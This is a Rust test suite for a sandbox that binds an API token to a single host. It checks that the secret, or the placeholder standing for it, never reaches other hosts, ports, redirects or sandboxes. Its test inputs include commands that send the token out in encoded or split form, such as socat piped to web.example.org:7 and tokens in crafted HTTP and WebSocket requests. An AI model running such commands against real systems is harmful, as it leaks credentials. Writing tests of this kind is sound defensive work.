//! The secret goes to its host alone, and what stands for it to nobody else
//! who can be watched.

use ringfence_testkit::place::port;

use super::said::{Said, fields};
use super::{BEARER, Bound, HOST, OTHER, SECRET, VARIABLE, leak_of, placeholder};

const ASK: &str = "curl -sS -i -m 60 -H \"Authorization: Bearer $API_TOKEN\"";

fn redirect(to: &str) -> String {
    let to = to.replace(':', "%3A").replace('/', "%2F");
    format!("'https://{HOST}/redirect?to={to}'")
}

#[test]
fn g5_redirects_are_new_requests() {
    let bound = Bound::new();
    let high = format!("{HOST}:8443");
    let credential = format!("credentials:\n  - {BEARER}\n");
    let flags = bound.policy_of(&[HOST, OTHER, &high], &credential);
    for version in ["--http1.1", "--http2"] {
        for to in [
            format!("https://{OTHER}/elsewhere"),
            format!("https://{HOST}:8443/elsewhere"),
            format!("http://{HOST}/elsewhere"),
            format!("http://{OTHER}/elsewhere"),
        ] {
            for words in [
                ASK.to_owned() + " -L",
                ASK.to_owned() + " --location-trusted",
                "curl -sS -i -L".to_owned(),
            ] {
                let script = format!("{words} {version} {}", redirect(&to));
                bound.run(&flags, &script);
                let connections = bound.net().connections();
                let first = connections.iter().find(|one| one.to.port() == port::HTTPS);
                let first = first.expect("the first request");
                assert!(
                    first.saw.join("\n").contains(SECRET),
                    "{script}: {connections:#?}"
                );
                for other in &connections {
                    let is_bound =
                        other.to.port() == port::HTTPS && other.saw[0] == format!("sni {HOST}");
                    let seen = other.saw.join("\n");
                    assert!(is_bound || !seen.contains(SECRET), "{script}: {other:#?}");
                }
            }
        }
    }
}

#[test]
fn g5_another_port_or_scheme_of_the_host_gets_nothing() {
    let bound = Bound::new();
    let entries = [
        HOST.to_owned(),
        format!("{HOST}:8443"),
        format!("{HOST}:8080"),
    ];
    let entries: Vec<&str> = entries.iter().map(String::as_str).collect();
    let flags = bound.policy_of(&entries, &format!("credentials:\n  - {BEARER}\n"));
    for url in [
        format!("https://{HOST}:8443/"),
        format!("http://{HOST}/"),
        format!("http://{HOST}:8080/"),
        format!("http://{HOST}:443/"),
    ] {
        for way in ["", "--noproxy '*'"] {
            bound.run(&flags, &format!("curl -sS {way} {url}; {ASK} {way} {url}"));
            assert!(
                !bound.net().saw(SECRET),
                "{url}: {:#?}",
                bound.net().connections()
            );
        }
    }
}

/// A server that got the secret may have others know it, at any of its ports:
/// here they are told by the test, of which the sandbox is a part.
#[test]
fn g5_the_secret_comes_back_from_no_other_port_of_its_host() {
    let bound = Bound::new();
    let entries = [
        HOST.to_owned(),
        format!("{HOST}:8443"),
        format!("{HOST}:8080"),
    ];
    let entries: Vec<&str> = entries.iter().map(String::as_str).collect();
    let flags = bound.policy_of(&entries, &format!("credentials:\n  - {BEARER}\n"));
    let (first, second) = SECRET.split_at(9);
    for url in [
        format!("http://{HOST}/forms"),
        format!("http://{HOST}:8080/forms"),
        format!("https://{HOST}:8443/forms"),
    ] {
        for way in ["", "--noproxy '*'"] {
            let told = format!(
                "printf 'Authorization: Bearer %s%s' '{first}' '{second}' > /tmp/told; \
                 curl -sS -i -m 60 {way} -H @/tmp/told {url}"
            );
            let outside = bound.outside(&told).expect_code(0);
            assert!(super::leak(&outside.stdout).is_some(), "{url}: {outside:?}");
            // Which fails the test if the secret is in what came.
            let run = bound.run(&flags, &format!("curl -sSf https://{HOST}/; {told}"));
            // In the page that was asked for first, and in this one.
            let shown = run.stdout().matches("rf-").count();
            assert!(shown >= 2, "{url} {way}: {:?}", run.outcome);
        }
    }
}

/// Such a port may be one where servers speak first, so a client that says
/// nothing is not waited for; what it says later is looked into all the same.
#[test]
fn g5_g11_who_is_slow_to_speak_is_served_at_every_port_of_the_host() {
    let bound = Bound::new();
    let high = format!("{HOST}:8443");
    let plain = format!("{HOST}:8080");
    let credential = format!("credentials:\n  - {BEARER}\n");
    let flags = bound.policy_of(&[HOST, &high, &plain], &credential);
    for (port, speaks) in [(8443, "https"), (8080, "http")] {
        let script = format!("python3 slow.py {HOST} {port} {speaks}");
        bound.outside(&script).expect_code(0);
        let run = bound.run(&flags, &script).expect_code(0);
        assert!(
            run.stdout().starts_with("HTTP/1.1 200"),
            "{speaks}: {:?}",
            run.outcome
        );
        assert_eq!(run.refusals("needs-inspection"), 0, "{:?}", run.told());
    }
}

/// Nor over a connection that speaks neither HTTP nor TLS, whoever speaks
/// first, and in whatever pieces it comes.
#[test]
fn g5_the_secret_comes_back_over_no_plain_connection_to_its_host() {
    let bound = Bound::new();
    let ports = [port::ECHO, port::BANNER];
    let entries = [
        vec![HOST.to_owned()],
        ports.map(|port| format!("{HOST}:{port}")).into(),
    ];
    let entries: Vec<&str> = entries.iter().flatten().map(String::as_str).collect();
    let flags = bound.policy_of(&entries, &format!("credentials:\n  - {BEARER}\n"));
    let (first, second) = SECRET.split_at(9);
    for port in ports {
        let told = format!("python3 talk.py {HOST} {port} '{first}' '{second}'");
        let outside = bound.outside(&told).expect_code(0);
        assert!(
            super::leak(&outside.stdout).is_some(),
            "{port}: {outside:?}"
        );
        let script = format!("curl -sSf https://{HOST}/ > /dev/null; {told}");
        // Which fails the test if the secret is in what came.
        let run = bound.run(&flags, &script).expect_code(0);
        let shown = run.stdout();
        let covered = "*".repeat(SECRET.len());
        assert_eq!(shown.matches(&covered).count(), 2, "{port}: {shown}");
        // What is no secret is neither changed nor waited for.
        assert!(
            shown.contains("begin") && shown.contains("s3cr3 or not"),
            "{shown}"
        );
    }
}

#[test]
fn g5_a_sandbox_without_the_binding_gets_nothing() {
    let bound = Bound::new();
    let script = format!("{ASK} https://{HOST}/; echo token=$API_TOKEN");
    let run = bound
        .run(&bound.policy_of(&[HOST], ""), &script)
        .expect_code(0);
    assert_eq!(placeholder(&run), "", "the variable came in");
    assert!(!bound.net().saw(SECRET));
}

/// What stands for the secret in one sandbox means nothing in another.
#[test]
fn g5_what_stands_for_the_secret_is_useless_in_another_sandbox() {
    let bound = Bound::new();
    let flags = bound.policy(BEARER);
    let first = bound.run(&flags, "echo token=$API_TOKEN").expect_code(0);
    let first = placeholder(&first).to_owned();
    let ask = format!(
        "curl -sSf -H 'Authorization: Bearer {first}' https://{HOST}/; echo token=$API_TOKEN"
    );
    let second = bound.run(&flags, &ask).expect_code(0);
    assert_ne!(first, placeholder(&second));
    assert!(!bound.net().saw(SECRET), "it was taken for its own");
    let third = bound.run(&bound.policy_of(&[HOST], ""), &ask);
    third.expect_code(0);
    assert!(!bound.net().saw(SECRET));
}

/// Both run at once and use the same host.
#[test]
fn g5_two_sandboxes_with_the_same_host_do_not_mix() {
    let bound = Bound::new();
    let flags = bound.policy(BEARER);
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let script = format!(
        "curl -sSf https://{HOST}/a > /dev/null; touch $0; \
         until [ -e first ] && [ -e second ]; do sleep 0.02; done; \
         curl -sSf https://{HOST}/b; echo token=$API_TOKEN"
    );
    bound.net().forget();
    let start = |name: &str, secret: &str| {
        let words = [&["run"], &flags[..], &["--", "sh", "-c", &script, name]].concat();
        let program = bound.host.online.ringfence().args(words);
        program.env(VARIABLE, secret).start()
    };
    let [first, second] =
        ["first", "second"].map(|name| start(name, &format!("s3cr3t-of-the-{name}-one")));
    let [first, second] = [first, second].map(|one| one.finish().expect_code(0).stdout);
    for (shown, other) in [(&first, "second"), (&second, "first")] {
        assert!(!shown.contains("s3cr3t-of-the"), "{shown}");
        assert!(!shown.contains(&format!("the-{other}-one")));
    }
    let connections = bound.net().connections();
    for connection in &connections {
        let seen = connection.saw.join("\n");
        let both = seen.contains("the-first-one") && seen.contains("the-second-one");
        assert!(!both, "one connection for both: {connection:#?}");
    }
    assert!(bound.net().saw("the-first-one") && bound.net().saw("the-second-one"));
}

/// Where the placeholder stands in a request, and in which form.
fn requests(host: &str) -> Vec<Said> {
    let head = |target: &str, more: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n")
    };
    let post = |length: usize| {
        format!(
            "POST / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n"
        )
    };
    let chunked = format!(
        "POST / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let mut all = vec![
        Said::one(host, &[&head("/path/$API_TOKEN", "")]),
        Said::one(host, &[&head("/?query=$API_TOKEN", "")]),
        Said::one(host, &[&head("/?query=percent:$API_TOKEN:", "")]),
        Said::one(host, &[&head("/?query=base64:$API_TOKEN:", "")]),
        Said::one(host, &[&head("/", "Authorization: Bearer $API_TOKEN\r\n")]),
        Said::one(
            host,
            &[&head(
                "/",
                "Authorization: Basic base64:user=$API_TOKEN:\r\n",
            )],
        ),
        Said::one(host, &[&head("/", "X-Any: hex:$API_TOKEN:\r\n")]),
        Said::one(host, &[&head("/", "X-$API_TOKEN: name\r\n")]),
        Said::one(
            host,
            &[
                head("/", "X-Any: first:$API_TOKEN:").trim_end(),
                "second:$API_TOKEN:\r\n\r\n",
            ],
        ),
    ];
    for text in ["$API_TOKEN", "base64:xy$API_TOKEN:", "percent:$API_TOKEN:"] {
        all.push(Said::one(host, &[&post(4000), text, &"x".repeat(4000)]));
        all.push(Said::one(
            host,
            &[
                &chunked,
                &format!("14\r\n{}", "y".repeat(20)),
                &format!("\r\n1000\r\n{text}"),
                &"x".repeat(5000),
            ],
        ));
    }
    all.push(Said::one(
        host,
        &[
            &post(4000),
            "first:$API_TOKEN:",
            "second:$API_TOKEN:",
            &"x".repeat(4000),
        ],
    ));
    let with = |path: &str, name: &str, value: &str| {
        let mut fields = fields(host, path);
        fields.push((name.to_owned(), value.to_owned()));
        fields
    };
    all.extend([
        Said::two(host, &fields(host, "/path/$API_TOKEN"), &[]),
        Said::two(host, &fields(host, "/?query=percent:$API_TOKEN:"), &[]),
        Said::two(host, &with("/", "authorization", "Bearer $API_TOKEN"), &[]),
        Said::two(host, &with("/", "x-any", "base64:x$API_TOKEN:"), &[]),
        Said::two(host, &fields(host, "/"), &["before $API_TOKEN after"]),
        Said::two(host, &fields(host, "/"), &["base64:$API_TOKEN:"]),
        Said::two(
            host,
            &fields(host, "/"),
            &["first:$API_TOKEN:", "second:$API_TOKEN:"],
        ),
        Said::two(
            host,
            &fields(host, "/"),
            &[
                "x",
                "first:base64:$API_TOKEN::",
                "second:base64:$API_TOKEN::",
                "y",
            ],
        ),
    ]);
    all
}

impl Bound {
    /// Says each and fails the test if what stands for the secret arrives, or
    /// is not written down each time.
    #[track_caller]
    fn refuses_the_placeholder(&self, flags: &[String], all: &[Said]) {
        for heard in self.say_outside(all) {
            assert_ne!(heard.status, 0, "outside: {heard:?}");
        }
        let (run, heard) = self.say(flags, all);
        let placeholder = placeholder(&run).to_owned();
        for connection in self.net().connections() {
            let seen = connection.saw.join("");
            assert_eq!(leak_of(&placeholder, &seen), None, "{connection:#?}");
        }
        for (heard, said) in heard.iter().zip(all) {
            assert_ne!(heard.status, 200, "{said:?}: {heard:?}");
        }
        let refused = run.refusals("placeholder-elsewhere");
        assert_eq!(refused, all.len() as u64, "{:#?}", run.told());
    }
}

#[test]
fn g5_a_placeholder_for_another_host_that_is_looked_into() {
    let bound = Bound::new();
    let allowed = format!(
        "version: 1\nnetwork:\n  allow: [{HOST}, {{host: {OTHER}, inspect: true}}]\n\
         credentials:\n  - {BEARER}\n"
    );
    let path = bound.policies.write("inspect.yaml", &allowed);
    let flags = ["--policy".to_owned(), path.display().to_string()];
    bound.refuses_the_placeholder(&flags, &requests(OTHER));
}

#[test]
fn g5_a_placeholder_in_clear() {
    let bound = Bound::new();
    let flags = bound.policy_of(
        &[HOST, "web.example.org"],
        &format!("credentials:\n  - {BEARER}\n"),
    );
    let plain = |parts: &[&str]| Said::plain("web.example.org", port::HTTP, parts);
    let head = |target: &str, more: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: web.example.org\r\nConnection: close\r\n{more}\r\n")
    };
    let post = "POST / HTTP/1.1\r\nHost: web.example.org\r\nConnection: close\r\nContent-Length: 40\r\n\r\n";
    bound.refuses_the_placeholder(
        &flags,
        &[
            plain(&[&head("/$API_TOKEN", "")]),
            plain(&[&head("/?percent:$API_TOKEN:", "")]),
            plain(&[&head("/", "X-Any: base64:ab$API_TOKEN:\r\n")]),
            plain(&[post, "xxxx$API_TOKEN", &"y".repeat(100)]),
            plain(&[
                post,
                "first:$API_TOKEN:",
                "second:$API_TOKEN:",
                &"y".repeat(100),
            ]),
        ],
    );
}

#[test]
fn g5_a_placeholder_over_plain_tcp() {
    let bound = Bound::new();
    let flags = bound.policy_of(
        &[HOST, "web.example.org:7"],
        &format!("credentials:\n  - {BEARER}\n"),
    );
    for sent in [
        "echo hello $API_TOKEN",
        "echo hello; sleep 0.1; echo $API_TOKEN | base64",
        "printf %s $API_TOKEN | head -c 10; sleep 0.1; printf %s $API_TOKEN | tail -c +11",
        "printf %s $API_TOKEN | od -An -tx1 | tr -d ' \\n'",
    ] {
        let script = format!(
            "{{ {sent}; }} | socat -t 5 - tcp:web.example.org:7; echo; echo token=$API_TOKEN"
        );
        bound.outside(&script).expect_code(0);
        assert!(
            super::leak(&seen(&bound)).is_some(),
            "{sent}: {}",
            seen(&bound)
        );
        let run = bound.run(&flags, &script);
        assert_eq!(leak_of(placeholder(&run), &seen(&bound)), None, "{sent}");
        let told = run.told();
        assert!(
            told.iter()
                .any(|one| one.ends_with(" placeholder-elsewhere")),
            "{told:?}"
        );
    }
}

/// Frames of a client are masked.
#[test]
fn g5_a_placeholder_in_a_websocket_of_another_host() {
    let bound = Bound::new();
    let text = format!(
        "version: 1\nnetwork:\n  allow: [{HOST}, {{host: {OTHER}, inspect: true}}]\n\
         credentials:\n  - {BEARER}\n"
    );
    let path = bound.policies.write("inspect.yaml", &text);
    let flags = ["--policy".to_owned(), path.display().to_string()];
    let script = format!(
        "token=$API_TOKEN; API_TOKEN=none /usr/bin/python3 socket_talk.py wss://{OTHER}/socket/ \
         hello \"$token\"; echo token=$API_TOKEN"
    );
    bound.outside(&script).expect_code(0);
    assert!(bound.saw(OTHER, SECRET));
    let run = bound.run(&flags, &script);
    assert!(bound.saw(OTHER, "hello"), "{:?}", run.outcome);
    assert_eq!(leak_of(placeholder(&run), &seen(&bound)), None);
}

/// All that servers saw.
fn seen(bound: &Bound) -> String {
    let connections = bound.net().connections();
    let saw = connections.iter().flat_map(|one| &one.saw);
    saw.map(String::as_str).collect()
}
